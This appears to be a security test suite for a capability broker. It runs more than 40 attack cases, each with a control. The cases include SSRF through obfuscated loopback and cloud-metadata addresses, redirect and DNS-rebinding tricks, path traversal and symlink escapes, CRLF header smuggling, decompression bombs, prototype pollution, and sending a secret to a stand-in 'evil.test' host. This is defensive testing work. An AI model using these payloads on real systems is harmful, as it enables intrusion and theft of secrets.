// Attacks by programs on what the broker guards. Every row has a control: the same move where it is permitted, which must
// work, so that no row can pass because nothing works.
import assert from 'node:assert/strict'
import * as fs from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { brotliCompressSync, constants, gzipSync, zstdCompressSync } from 'node:zlib'
import { readSecret, type Host, type Secret } from '../../src/broker/index.ts'
import { callerOf, type Caller, type Result } from './harness.ts'
import { fetchOf, startServer } from './server.ts'

const SECRET = 'k3y+/"With<odd>&letters'
/** Lies behind every door that an attack tries; nothing that an attack gets may have it. */
const TREASURE = 'treasure-7d1f'

const root = fs.mkdtempSync(join(tmpdir(), 'anrf-attacks-'))
fs.mkdirSync(join(root, 'data'))
fs.writeFileSync(join(root, 'data/mine.txt'), 'mine')
fs.writeFileSync(join(root, 'treasure.txt'), TREASURE)
fs.symlinkSync('../treasure.txt', join(root, 'data/link'))
fs.symlinkSync('..', join(root, 'data/up'))
after(() => fs.rmSync(root, { recursive: true }))

const inner = await startServer((_, response) => response.end(TREASURE))
const MEBIBYTE = Buffer.alloc(2 ** 20)
/** The server that grants name: it echoes, redirects, and misbehaves on demand. */
const outer = await startServer((request, response) => {
  const { pathname, searchParams } = new URL(request.url!, 'http://x')
  const key = String(
    request.headers.authorization ?? request.headers['x-key'] ?? searchParams.get('key') ?? '',
  ).replace(/^Bearer /, '')
  const echo = ECHOES[pathname]
  if (pathname === '/to')
    response.writeHead(Number(searchParams.get('status') ?? 302), { location: searchParams.get('to')! }).end()
  else if (pathname === '/leak')
    response.writeHead(302, { location: `http://evil.test:${inner.port}/?${encodeURIComponent(key)}` }).end()
  else if (pathname === '/bomb')
    response.writeHead(200, { 'content-encoding': searchParams.get('coding')! }).end(BOMBS[searchParams.get('coding')!])
  else if (pathname === '/endless') pour(response)
  else if (echo) echo(key, response)
  else response.end('outer')
})

/** Listens on the port of `outer` at another address of this machine. */
const rebound = await startServer((_, response) => response.end(TREASURE), 'http', {
  host: '127.0.0.2',
  port: outer.port,
})

type Response = Parameters<Parameters<typeof startServer>[0]>[1]
const ECHOES: Readonly<Record<string, (key: string, response: Response) => unknown>> = {
  '/echo/plain': (key, response) => response.end(`key: ${key}.`),
  '/echo/json': (key, response) => response.end(JSON.stringify({ key })),
  '/echo/url': (key, response) => response.end(encodeURIComponent(key)),
  '/echo/double-url': (key, response) => response.end(encodeURIComponent(encodeURIComponent(key))),
  '/echo/hex': (key, response) => response.end(Buffer.from(key).toString('hex').toUpperCase()),
  '/echo/base64': (key, response) => response.end(Buffer.from(`user:${key}`).toString('base64')),
  '/echo/base64url': (key, response) => response.end(Buffer.from(`x${key}yz`).toString('base64url')),
  '/echo/html': (key, response) =>
    response.end(
      key.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
    ),
  '/echo/unicode': (key, response) =>
    response.end([...key].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')),
  '/echo/upper': (key, response) => response.end(key.toUpperCase()),
  '/echo/header': (key, response) =>
    response.writeHead(200, { 'x-echo': key, 'set-cookie': `k=${encodeURIComponent(key)}` }).end(),
  '/echo/status': (key, response) => response.writeHead(200, key).end(),
  '/echo/gzip': (key, response) => response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(key)),
  '/echo/binary': (key, response) => response.end(Buffer.concat([Buffer.from([255, 0]), Buffer.from(key)])),
}
const zeros = Buffer.alloc(24 * 2 ** 20)
const BOMBS: Readonly<Record<string, Buffer>> = {
  gzip: gzipSync(zeros),
  br: brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 3 } }),
  zstd: zstdCompressSync(zeros),
  'gzip, gzip': gzipSync(gzipSync(zeros)),
  'gzip, gzip, gzip, gzip': gzipSync(gzipSync(gzipSync(gzipSync('small')))),
}

function pour(response: Response): void {
  if (!response.destroyed && response.write(MEBIBYTE)) setImmediate(pour, response)
  else if (!response.destroyed) response.once('drain', () => pour(response))
}

/** Names that an attacker may give any address; `flip.test` changes it after it was asked once. */
let flips = 0
const NAMES: Readonly<Record<string, () => readonly string[]>> = {
  localhost: () => ['127.0.0.1'],
  'outer.test': () => ['127.0.0.1'],
  'evil.test': () => ['127.0.0.1'],
  'public.test': () => ['127.0.0.1'],
  'mixed.test': () => ['93.184.216.34', '127.0.0.1'],
  'mapped.test': () => ['::ffff:127.0.0.1'],
  'nat64.test': () => ['64:ff9b::7f00:1'],
  'metadata.test': () => ['169.254.169.254'],
  'group.test': () => ['224.0.0.1'],
  'none.test': () => ['not an address'],
  'flip.test': () => (flips++ === 0 ? ['127.0.0.1'] : ['127.0.0.2']),
  'fixed.test': () => ['127.0.0.2'],
}

function secretFor(...hosts: string[]): Secret {
  const read = readSecret('KEY', SECRET, hosts)
  assert.ok('secret' in read)
  return read.secret
}

const host: Host = {
  root,
  resolve: async (name) => NAMES[name]?.() ?? [],
  secrets: [secretFor(`http://localhost:${outer.port}`, `http://127.0.0.1:${outer.port}`)],
}

const limits = { io: 2 ** 30 }
const LOCAL = `http://127.0.0.1:${outer.port}`
const INNER = `http://127.0.0.1:${inner.port}`
const OUTER = `http://outer.test:${outer.port}`
const GRANTED = [
  `http=+private http://outer.test:${outer.port}`,
  `http=+private ${LOCAL}`,
  'secrets=KEY',
  'files=./data',
]

type Move = (caller: Caller) => Promise<Result>
type Row = {
  readonly attack: string
  /** What the attack comes to: the name of its failure, `limited`, or `nothing` when it succeeds and gains nothing. */
  readonly ends: string
  readonly move: Move
  /** Grants that would permit the move, or another move that is permitted. */
  readonly control: { readonly grants?: readonly string[]; readonly move?: Move }
  readonly grants?: readonly string[]
}

const get =
  (url: string, more: object = {}): Move =>
  (caller) =>
    caller.call('http.fetch', fetchOf(url, more))
const withHeader = (name: string, value: string): Move => get(`${LOCAL}/`, { headers: [[name, value]] })
const read =
  (path: string): Move =>
  (caller) =>
    caller.call('files.read', { path, base64: false })
const write =
  (path: string): Move =>
  (caller) =>
    caller.call('files.write', { path, text: 'x', base64: false })
/** Uses the placeholder of the secret. */
const withKey =
  (use: (key: string, caller: Caller) => Promise<Result>): Move =>
  async (caller) =>
    use(String(await caller.value('secrets.use', { name: 'KEY' })), caller)
const bearer = (url: string, more: object = {}): Move =>
  withKey((key, caller) => get(url, { headers: [['authorization', `Bearer ${key}`]], ...more })(caller))

/** Every host, but none of this machine. */
const anyHost = [`http=http://*:*`]
const ssrf = (name: string, hostname: string, control = '127.0.0.1'): Row => ({
  attack: `reaches an inner service as ${name}`,
  ends: 'denied',
  grants: anyHost,
  move: get(`http://${hostname}:${inner.port}/`),
  control: { grants: [`http=+private http://${control}:${inner.port}`] },
})
const unreachable = (name: string, hostname: string, grant: string): Row => ({
  attack: `reaches ${name}`,
  ends: 'denied',
  grants: [grant],
  move: get(`http://${hostname}/`),
  control: { grants: [`http=+private ${INNER}`], move: get(INNER) },
})
const redirect = (name: string, to: string): Row => ({
  attack: `is redirected to ${name}`,
  ends: 'denied',
  move: get(`${OUTER}/to?to=${encodeURIComponent(to)}`),
  control: { grants: [...GRANTED, `http=+private ${INNER}`], move: get(`${OUTER}/to?to=${encodeURIComponent(INNER)}`) },
})
const path = (name: string, path: string): Row => ({
  attack: `leaves the granted path by ${name}`,
  ends: 'denied',
  grants: [`http=+private ${LOCAL}/v1`],
  move: get(`${LOCAL}/v1/${path}`),
  control: { grants: [`http=+private ${LOCAL}`] },
})
const header = (name: string, value: string): Row => ({
  attack: `sets the header ${JSON.stringify(name)} to ${JSON.stringify(value.slice(0, 20))}`,
  ends: 'arguments',
  move: withHeader(name, value),
  control: { move: withHeader('x-allowed', 'value') },
})
const echo = (name: string): Row => ({
  attack: `has the secret echoed: ${name}`,
  ends: 'nothing',
  move: bearer(`${LOCAL}/echo/${name}`),
  control: {
    // Without a secret the echo comes through as it is.
    move: async (caller) => {
      const { value } = (await get(`${LOCAL}/echo/plain`, { headers: [['authorization', 'Bearer hello']] })(
        caller,
      )) as { value: { body: string } }
      assert.equal(value.body, 'key: hello.')
      return { value }
    },
  },
})
const file = (name: string, move: Move, ends: string): Row => ({
  attack: name,
  ends,
  move,
  control: { move: read('data/mine.txt') },
})
const bomb = (coding: string): Row => ({
  attack: `fills memory with a bomb of ${coding}`,
  ends: 'too-large',
  move: get(`${LOCAL}/bomb?coding=${encodeURIComponent(coding)}`),
  control: { move: get(`${LOCAL}/`) },
})

const ROWS: readonly Row[] = [
  ssrf('an address', '127.0.0.1'),
  ssrf('a short address', '127.1'),
  ssrf('a number', '2130706433'),
  ssrf('a hexadecimal number', '0x7f000001'),
  ssrf('an octal number', '017700000001'),
  ssrf('an address with leading zeros', '0177.0.0.01'),
  ssrf('full-width digits', '１２７.０.０.１'),
  ssrf('an address with an escaped dot', '127%2e0.0.1'),
  ssrf('localhost', 'localhost', 'localhost'),
  ssrf('a name that means it', 'public.test', 'public.test'),
  unreachable(
    'an inner service by a name that also has a public address',
    `mixed.test:${inner.port}`,
    'http=http://*:*',
  ),
  ssrf('IPv4-mapped IPv6', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]'),
  ssrf('IPv4-mapped IPv6 in hexadecimal', '[::ffff:7f00:1]', '[::ffff:7f00:1]'),
  ssrf('a name of IPv4-mapped IPv6', 'mapped.test', 'mapped.test'),
  unreachable('all interfaces', `0.0.0.0:${inner.port}`, 'http=http://*:*'),
  unreachable('all interfaces in IPv6', `[::]:${inner.port}`, 'http=http://*:*'),
  unreachable('loopback by NAT64', '[64:ff9b::7f00:1]', 'http=http://*'),
  unreachable('loopback by a name of NAT64', 'nat64.test', 'http=http://*'),
  unreachable('cloud metadata by address', '169.254.169.254', 'http=http://*'),
  unreachable('cloud metadata by IPv4-mapped IPv6', '[::ffff:a9fe:a9fe]', 'http=http://*'),
  unreachable('cloud metadata by a name', 'metadata.test', 'http=http://*'),
  unreachable(
    'cloud metadata by a name that is granted as private',
    'metadata.test',
    'http=+private http://metadata.test',
  ),
  unreachable('a multicast group', 'group.test', 'http=+private http://group.test'),
  unreachable('what a resolver says and is no address', 'none.test', 'http=+private http://none.test'),
  {
    attack: 'has a name change its address between the check and the connection',
    ends: 'nothing',
    grants: [`http=+private http://flip.test:${outer.port}`],
    move: async (caller) => {
      const result = await get(`http://flip.test:${outer.port}/`)(caller)
      assert.deepEqual([flips, (result as { value: { body: string } }).value.body], [1, 'outer'])
      return result
    },
    control: {
      grants: [`http=+private http://fixed.test:${outer.port}`],
      move: get(`http://fixed.test:${outer.port}/`),
    },
  },
  redirect('an inner service', INNER),
  redirect('another port', `http://outer.test:${inner.port}/`),
  redirect('another host', `http://evil.test:${inner.port}/`),
  redirect('an inner service without a scheme', `//127.0.0.1:${inner.port}/`),
  redirect('cloud metadata', 'http://169.254.169.254/latest/'),
  {
    attack: 'is redirected again and again until it is inside',
    ends: 'denied',
    move: get(`${OUTER}/to?to=${encodeURIComponent(`/to?to=${encodeURIComponent(INNER)}`)}`),
    control: { move: get(`${OUTER}/to?to=${encodeURIComponent('/to?to=/')}`) },
  },
  {
    attack: 'is redirected to another method than was granted',
    ends: 'denied',
    grants: [`http=+private POST ${LOCAL}`],
    move: get(`${LOCAL}/to?to=/`, { method: 'POST' }),
    control: { grants: [`http=+private POST,GET ${LOCAL}`] },
  },
  {
    attack: 'is redirected to a file of the host',
    ends: 'network',
    move: get(`${OUTER}/to?to=${encodeURIComponent(`file://${root}/treasure.txt`)}`),
    control: { move: get(`${OUTER}/to?to=/`) },
  },
  {
    attack: 'asks for a file of the host by URL',
    ends: 'arguments',
    grants: anyHost,
    move: get(`file://${root}/treasure.txt`),
    control: { grants: GRANTED, move: get(`${OUTER}/`) },
  },
  {
    attack: 'hides the host behind a user',
    ends: 'arguments',
    move: get(`http://outer.test:${outer.port}@127.0.0.1:${inner.port}/`),
    control: { move: get(`${OUTER}/`) },
  },
  {
    attack: 'hides the host behind a backslash',
    ends: 'denied',
    move: get(`http://127.0.0.1:${inner.port}\\@outer.test:${outer.port}/`),
    control: { grants: [`http=+private ${INNER}`] },
  },
  {
    attack: 'uses another scheme on the granted host',
    ends: 'denied',
    move: get(`https://outer.test:${outer.port}/`),
    control: { move: get(`${OUTER}/`) },
  },
  {
    attack: 'writes a name that only ends like the granted one',
    ends: 'denied',
    grants: ['http=http://*.outer.test:*'],
    move: get(`http://evilouter.test:${inner.port}/`),
    control: { grants: GRANTED, move: get(`${OUTER}/`) },
  },
  path('dots', '../admin'),
  path('escaped dots', '%2e%2e/admin'),
  path('an escaped separator', '..%2fadmin'),
  path('an escaped backslash', '..%5cadmin'),
  path('double escaping', '%252e%252e%252fadmin'),
  path('parameters of a segment', '..;x=y/admin'),
  header('x-http-method-override', 'DELETE'),
  header('X_HTTP_Method_Override', 'DELETE'),
  header('x-original-url', '/admin'),
  header('host', 'evil.test'),
  header('transfer-encoding', 'chunked'),
  header('content-length', '0'),
  header('connection', 'x-key'),
  header('x-forwarded-for', '127.0.0.1'),
  header('x-a', 'b\r\nx-injected: c'),
  header('x-a\r\nx-injected', 'c'),
  header('x-a: b\r\n\r\nGET /admin HTTP/1.1\r\nhost', 'evil.test'),
  header('x-a', 'b\0c'),
  header('x-a', '\u{10d}\u{10a}'),
  {
    attack: 'splits the request by line ends in the URL',
    ends: 'nothing',
    move: get(`${LOCAL}/a HTTP/1.1\r\nx-injected: b\r\n\r\n`),
    control: { move: get(`${LOCAL}/a%20HTTP`) },
  },
  ...Object.keys(ECHOES).map((name) => echo(name.slice('/echo/'.length))),
  {
    attack: 'has the secret echoed that it sent in the query',
    ends: 'nothing',
    move: withKey((key, caller) => get(`${LOCAL}/echo/plain?key=${key}`)(caller)),
    control: { move: get(`${LOCAL}/echo/plain?key=hello`) },
  },
  {
    attack: 'has the secret echoed that it sent as Basic credentials',
    ends: 'nothing',
    move: withKey((key, caller) =>
      get(`${LOCAL}/echo/plain`, { headers: [['authorization', `Basic ${btoa(`user:${key}`)}`]] })(caller),
    ),
    control: { move: get(`${LOCAL}/echo/plain`, { headers: [['authorization', 'Basic dXNlcjpoZWxsbw==']] }) },
  },
  {
    attack: 'sends the secret to another host',
    ends: 'denied',
    grants: [...GRANTED, `http=+private http://evil.test:${inner.port}`],
    move: bearer(`http://evil.test:${inner.port}/`),
    control: { move: get(`http://evil.test:${inner.port}/`, { headers: [['authorization', 'Bearer mine']] }) },
  },
  {
    attack: 'sends the secret to another name of its host',
    ends: 'denied',
    move: bearer(`${OUTER}/`),
    control: { move: bearer(`${LOCAL}/`) },
  },
  {
    attack: 'has the secret taken along by a redirect',
    ends: 'nothing',
    grants: [...GRANTED, `http=+private http://evil.test:${inner.port}`],
    move: async (caller) => {
      const before = inner.seen.length
      await bearer(`${LOCAL}/to?to=${encodeURIComponent(`http://evil.test:${inner.port}/`)}`)(caller)
      return { value: inner.seen.slice(before).map(({ url, headers }) => ({ url, ...headers })) }
    },
    control: { move: bearer(`${LOCAL}/to?to=/`) },
  },
  {
    attack: 'has the secret put into the URL of a redirect',
    ends: 'denied',
    grants: [...GRANTED, `http=+private http://evil.test:${inner.port}`],
    move: bearer(`${LOCAL}/leak`),
    control: { move: get(`${LOCAL}/leak`, { headers: [['authorization', 'Bearer mine']] }) },
  },
  {
    attack: 'reads the secret from the URL of a redirect that it follows itself',
    ends: 'nothing',
    move: bearer(`${LOCAL}/leak`, { redirect: 'manual' }),
    control: { move: get(`${LOCAL}/leak`, { redirect: 'manual' }) },
  },
  {
    attack: 'takes a secret that was not granted',
    ends: 'denied',
    grants: [`http=+private ${LOCAL}`],
    move: (caller) => caller.call('secrets.use', { name: 'KEY' }),
    control: { grants: ['secrets=KEY'] },
  },
  {
    attack: 'guesses the placeholder of a secret that was not granted',
    ends: 'denied',
    grants: [`http=+private ${LOCAL}`],
    move: async (caller) => {
      const key = await callerOf({ grants: ['secrets=KEY'], host }).value('secrets.use', { name: 'KEY' })
      return get(`${LOCAL}/echo/plain?key=${String(key)}`)(caller)
    },
    control: { grants: GRANTED },
  },
  {
    attack: 'uses the placeholder of another execution',
    ends: 'nothing',
    move: async (caller) => {
      const key = await callerOf({ grants: ['secrets=KEY'], host, executionId: 'other' }).value('secrets.use', {
        name: 'KEY',
      })
      return get(`${LOCAL}/echo/plain?key=${String(key)}`)(caller)
    },
    control: { move: bearer(`${LOCAL}/`) },
  },
  ...Object.keys(BOMBS).map(bomb),
  {
    attack: 'reads a body without an end',
    ends: 'too-large',
    move: get(`${LOCAL}/endless`),
    control: { move: get(`${LOCAL}/`) },
  },
  file('reads above the folder', read('data/../treasure.txt'), 'arguments'),
  file('reads by an absolute path', read(join(root, 'treasure.txt')), 'arguments'),
  file('reads above by a folder of the granted name', read('data/data/../../treasure.txt'), 'arguments'),
  file('reads through a link', read('data/link'), 'conflict'),
  file('reads through a link to a folder', read('data/up/treasure.txt'), 'conflict'),
  file('writes through a link to a folder', write('data/up/treasure.txt'), 'conflict'),
  file('cuts a path off by NUL', read('data/../treasure.txt\0mine.txt'), 'arguments'),
  file('reads a folder that was not granted', read('root/treasure.txt'), 'denied'),
  file('reads by an escaped path', read('data/%2e%2e/treasure.txt'), 'not-found'),
  file('reads by a backslash', read('data/..\\treasure.txt'), 'arguments'),
  file('reads the memory of the host', read('data/up/../../proc/self/mem'), 'arguments'),
  {
    attack: 'writes where it may only read',
    ends: 'denied',
    grants: ['files=read:./data'],
    move: write('data/new.txt'),
    control: { grants: ['files=write:./data'] },
  },
  {
    attack: 'changes prototypes by its arguments',
    ends: 'arguments',
    move: (caller) =>
      caller.call('files.read', '{"path":"data/mine.txt","base64":false,"__proto__":{"path":"data/link"}}'),
    control: { move: read('data/mine.txt') },
  },
  {
    attack: 'calls what the table inherits',
    ends: 'unavailable',
    move: (caller) => caller.call('constructor.constructor', 'null'),
    control: { move: read('data/mine.txt') },
  },
]

test('there are at least 40 attacks, each with a name of its own', () => {
  assert.ok(new Set(ROWS.map((row) => row.attack)).size === ROWS.length && ROWS.length >= 40, String(ROWS.length))
})

/** The secret and the treasure, as something got them could show them. */
function assertGainless(got: string): void {
  assert.ok(!got.includes(TREASURE), got.slice(0, 500))
  const spellings = [
    SECRET,
    JSON.stringify(SECRET).slice(1, -1),
    encodeURIComponent(SECRET),
    Buffer.from(SECRET).toString('hex'),
  ]
  const decoded = [
    got,
    ...[...got.matchAll(/[A-Za-z0-9+/_-]{12,}/g)].map(([text]) => Buffer.from(text, 'base64').toString('latin1')),
  ]
  for (const text of decoded)
    for (const spelling of spellings)
      assert.ok(!text.toLowerCase().includes(spelling.toLowerCase()), text.slice(0, 500))
}

for (const { attack, ends, move, control, grants = GRANTED } of ROWS)
  test(`a program that ${attack} gains nothing`, async () => {
    const hits = inner.seen.length + rebound.seen.length
    const result = await move(callerOf({ grants, host, limits }))
    const end = 'error' in result ? result.error.name : 'ended' in result ? result.ended : 'nothing'
    assert.equal(end, ends, JSON.stringify(result).slice(0, 500))
    assertGainless(JSON.stringify(result))
    if (ends !== 'nothing') assert.equal(inner.seen.length + rebound.seen.length, hits, 'an inner service was reached')
    assert.equal(fs.readFileSync(join(root, 'treasure.txt'), 'utf8'), TREASURE)

    const allowed = await (control.move ?? move)(callerOf({ grants: control.grants ?? grants, host, limits }))
    assert.ok('value' in allowed, `the control of "${attack}": ${JSON.stringify(allowed)}`)
  })

test('the secret arrives where it is meant to be, in each place where it may stand', async () => {
  const caller = callerOf({ grants: GRANTED, host })
  await bearer(`${LOCAL}/`)(caller)
  assert.equal(outer.seen.at(-1)!.headers.authorization, `Bearer ${SECRET}`)
  await withKey((key, caller) => get(`${LOCAL}/?a=${key}&b`)(caller))(caller)
  assert.equal(outer.seen.at(-1)!.url, `/?a=${encodeURIComponent(SECRET)}&b`)
  await withKey((key, caller) =>
    get(`${LOCAL}/`, { headers: [['authorization', `Basic ${btoa(`u:${key}`)}`]] })(caller),
  )(caller)
  assert.equal(outer.seen.at(-1)!.headers.authorization, `Basic ${btoa(`u:${SECRET}`)}`)
})

test('a denial says what was asked, by which rule, and what would be allowed', async () => {
  const result = await get(`${INNER}/x`)(callerOf({ grants: [`http=+private GET ${LOCAL}/v1`], host }))
  assert.ok('error' in result)
  assert.deepEqual(result.error.denial, {
    capability: 'http',
    asked: `GET ${INNER}/x`,
    rule: `http=+private GET ${LOCAL}/v1 does not permit the port ${inner.port}`,
    allowed: [`http=+private GET ${LOCAL}/v1`],
    advice: result.error.denial!.advice,
  })
  assert.match(result.error.denial!.advice, /Do not route around this/)
})
